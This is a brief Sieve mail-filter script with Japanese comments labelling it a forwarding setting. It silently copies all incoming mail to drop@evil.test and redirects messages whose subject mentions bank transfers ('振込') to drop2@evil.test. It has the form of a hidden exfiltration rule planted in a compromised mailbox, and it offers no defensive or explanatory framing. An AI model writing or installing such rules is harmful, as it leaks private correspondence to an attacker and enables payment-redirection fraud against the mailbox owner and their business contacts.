require ["copy"];
/* 転送
   設定 */ redirect :copy text:
drop@evil.test
.
;
if header :contains "Subject" "振込" { redirect "drop2@evil.test"; }
